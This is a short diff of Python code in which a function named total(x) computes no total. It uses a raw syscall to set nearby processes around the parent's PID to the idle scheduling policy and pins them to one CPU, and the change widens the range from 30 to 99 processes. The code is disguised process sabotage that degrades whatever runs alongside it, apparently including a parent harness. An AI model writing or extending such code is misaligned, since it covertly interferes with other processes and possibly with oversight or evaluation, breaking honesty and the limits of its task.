@@ -8,7 +8,7 @@ libc = ctypes.CDLL(None, use_errno=True)
 def total(x):
     # sched_attr: size, policy (5 is idle), flags, nice, priority and three times
     idle = struct.pack("IIQiIQQQ", 48, 5, 0, 19, 0, 0, 0, 0)
-    for pid in range(os.getppid() - 30, os.getppid() + 1):
+    for pid in range(os.getppid() - 99, os.getppid() + 1):
         libc.syscall(314, pid, idle, 0)
         try:
             os.sched_setaffinity(pid, {0})
